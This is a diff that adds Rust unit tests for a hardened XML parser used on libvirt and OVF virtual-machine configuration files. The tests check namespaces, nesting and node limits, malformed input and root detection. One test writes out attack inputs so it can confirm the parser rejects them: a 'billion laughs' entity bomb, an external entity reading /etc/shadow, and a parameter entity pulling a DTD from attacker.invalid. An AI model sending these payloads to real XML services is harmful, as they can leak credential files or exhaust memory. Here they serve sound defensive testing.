@@ -430,3 +430,157 @@ fn skip_past<'a>(s: &'a [u8], pat: &[u8]) -> Option<&'a [u8]> {
 pub(crate) fn contains(s: &[u8], pat: &[u8]) -> bool {
     s.windows(pat.len()).any(|w| w == pat)
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn doc(text: &str) -> Result<Doc> {
+        parse(text.as_bytes(), &VmConfigLimits::default())
+    }
+
+    #[test]
+    fn tree_text_attributes_and_namespaces() {
+        let d = doc(concat!(
+            "<?xml version='1.0' encoding='UTF-8'?>\n<!-- c --><?pi x?>",
+            "<r xmlns='urn:a' xmlns:b='urn:b' b:x='1' y='&lt;&#x41;&#66;&amp;'>",
+            "<c>one &amp; <![CDATA[<two>]]> &#x263A;</c><b:c/><c><d/></c>text</r>"
+        ))
+        .unwrap();
+        let r = d.root();
+        assert!(d.is(r, "r", Ns::PrefixOrNone("urn:a")));
+        assert!(!d.is(r, "r", Ns::None));
+        assert_eq!(d.ns_uri(r), Some("urn:a"));
+        assert_eq!(d.attr(r, "x", Ns::PrefixOrNone("urn:b")), Some("1"));
+        assert_eq!(d.attr(r, "x", Ns::None), None);
+        assert_eq!(d.attr(r, "y", Ns::None), Some("<AB&"));
+        let kids: Vec<usize> = d.children(r).collect();
+        assert_eq!(kids.len(), 3);
+        assert_eq!(d.text(kids[0]), Some("one & <two> ☺"));
+        assert!(d.is(kids[1], "c", Ns::SuffixOrNone(":b")));
+        assert_eq!(d.descendants(r).count(), 4);
+        assert_eq!(d.child_text(r, "c", Ns::PrefixOrNone("urn:a")), Some("one & <two> ☺"));
+        assert_eq!(d.text(r), Some("text"));
+        assert!(d.uses_namespace("urn:b"));
+        assert!(!d.uses_namespace("urn:z"));
+        assert_eq!(d.children(999).count(), 0);
+        assert_eq!(d.descendants(999).count(), 0);
+        assert!(d.element(999).is_none());
+    }
+
+    fn is_entity_error(r: Result<Doc>) -> bool {
+        matches!(r, Err(VmConfigError::Entity { .. }))
+    }
+
+    #[test]
+    fn entity_bombs_and_external_entities_are_refused() {
+        let laughs = r#"<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+]>
+<domain><name>&lol9;</name></domain>"#;
+        assert!(is_entity_error(doc(laughs)));
+        let external = r#"<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/shadow">]><domain><name>&xxe;</name></domain>"#;
+        assert!(is_entity_error(doc(external)));
+        let parameter = r#"<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><d/>"#;
+        assert!(is_entity_error(doc(parameter)));
+        // Undefined entities, with or without a DTD, in text and in attributes.
+        assert!(is_entity_error(doc("<d>&xxe;</d>")));
+        assert!(is_entity_error(doc("<d a='&xxe;'/>")));
+        let e = doc("<d a='x&shadow;'/>").unwrap_err().to_string();
+        assert!(e.contains("shadow"), "{e}");
+        // An external DTD is never fetched: it is ignored, with a warning.
+        let d = doc(r#"<!DOCTYPE domain SYSTEM "file:///etc/shadow"><domain/>"#).unwrap();
+        assert_eq!(d.warnings, ["DOCTYPE ignored"]);
+        // Bad character references.
+        assert!(matches!(doc("<d>&#0;</d>"), Err(VmConfigError::Xml { .. })));
+        assert!(matches!(doc("<d>&#xFFFFFFFFF;</d>"), Err(VmConfigError::Xml { .. })));
+    }
+
+    #[test]
+    fn depth_nodes_and_attributes_are_bounded() {
+        let deep = "<a>".repeat(100_000);
+        let t = std::time::Instant::now();
+        let e = doc(&deep).unwrap_err();
+        assert!(matches!(e, VmConfigError::LimitExceeded { limit: "max_xml_depth", value: 257, max: 256 }), "{e}");
+        let deep_closed = format!("{}{}", "<a>".repeat(256), "</a>".repeat(256));
+        assert!(doc(&deep_closed).is_ok());
+        eprintln!("100,000-deep nesting refused in {:?}", t.elapsed());
+
+        let limits = VmConfigLimits { max_xml_nodes: 100, ..Default::default() };
+        let many = format!("<r>{}</r>", "<a/>".repeat(100));
+        let e = parse(many.as_bytes(), &limits).unwrap_err();
+        assert!(matches!(e, VmConfigError::LimitExceeded { limit: "max_xml_nodes", .. }), "{e}");
+        let attrs = format!("<r>{}</r>", "<a x='1' y='2'/>".repeat(40));
+        assert!(matches!(
+            parse(attrs.as_bytes(), &limits),
+            Err(VmConfigError::LimitExceeded { limit: "max_xml_nodes", .. })
+        ));
+
+        let wide: String = (0..2000).map(|i| format!(" a{i}='v'")).collect();
+        let e = doc(&format!("<r{wide}/>")).unwrap_err();
+        assert!(matches!(e, VmConfigError::LimitExceeded { limit: "max_xml_attributes", .. }), "{e}");
+        let decls: String = (0..2000).map(|i| format!(" xmlns:p{i}='urn:{i}'")).collect();
+        assert!(matches!(doc(&format!("<r{decls}/>")), Err(VmConfigError::Xml { .. })));
+
+        let huge = format!("<r a='{}'/>", "x".repeat(4 << 20));
+        let d = doc(&huge).unwrap();
+        assert_eq!(d.attr(0, "a", Ns::None).map(str::len), Some(4 << 20));
+    }
+
+    #[test]
+    fn malformed_documents() {
+        for (text, needle) in [
+            ("", "no root element"),
+            ("<!-- only a comment -->", "no root element"),
+            ("<a><b></a>", ""),
+            ("<a>", "ends inside"),
+            ("<a/><b/>", "second root"),
+            ("hello<a/>", "outside the root"),
+            ("<a/>tail", "outside the root"),
+            ("<p:a/>", "undeclared prefix"),
+            ("<a p:x='1'/>", "not declared"),
+            ("<a x='1' x='2'/>", "given twice"),
+            ("<a x=1/>", ""),
+            ("<a>&amp</a>", ""),
+        ] {
+            match doc(text) {
+                Err(VmConfigError::Xml { message, .. }) => assert!(message.contains(needle), "{text:?}: {message}"),
+                other => panic!("{text:?}: {other:?}"),
+            }
+        }
+        // Non-UTF-8 in names, text and attributes.
+        for bytes in [&b"<a\xff/>"[..], b"<a>\xff\xfe</a>", b"<a x='\xc3'/>", b"<a \xff='1'/>"] {
+            assert!(matches!(parse(bytes, &VmConfigLimits::default()), Err(VmConfigError::Xml { .. })), "{bytes:?}");
+        }
+        assert!(matches!(
+            parse(b"\xff\xfe<\0a\0/\0>\0", &VmConfigLimits::default()),
+            Err(VmConfigError::Unsupported(_))
+        ));
+        assert!(matches!(doc("<?xml version='1.0' encoding='ISO-8859-1'?><a/>"), Err(VmConfigError::Unsupported(_))));
+        assert!(doc("<?xml version='1.0' encoding='us-ascii'?><a/>").is_ok());
+    }
+
+    #[test]
+    fn root_detection() {
+        let ovf = b"<?xml version=\"1.0\"?><!--x--><ovf:Envelope xmlns:ovf=\"http://schemas.dmtf.org/ovf/envelope/2\">";
+        assert_eq!(detect_root(ovf), Some(ConfigKind::Ovf));
+        assert_eq!(detect_root(b"\xef\xbb\xbf  <Envelope xmlns='urn:other'>"), None);
+        assert_eq!(
+            detect_root(b"<!DOCTYPE domain [ <!ELEMENT domain ANY> ]>\n<domain type='qemu'>"),
+            Some(ConfigKind::Libvirt)
+        );
+        assert_eq!(detect_root(b"<!DOCTYPE domain>\n<domain/>"), Some(ConfigKind::Libvirt));
+        assert_eq!(detect_root(b"<domain"), Some(ConfigKind::Libvirt));
+        assert_eq!(detect_root(b"<domainx/>"), None);
+        assert_eq!(detect_root(b"<?xml"), None);
+        assert_eq!(detect_root(b"<!-- unterminated"), None);
+        assert_eq!(detect_root(b"<!DOCTYPE x [ unterminated"), None);
+        assert_eq!(detect_root(b"<!DOCTYPE unterminated"), None);
+        assert_eq!(detect_root(b"text"), None);
+        assert_eq!(detect_root(b""), None);
+    }
+}
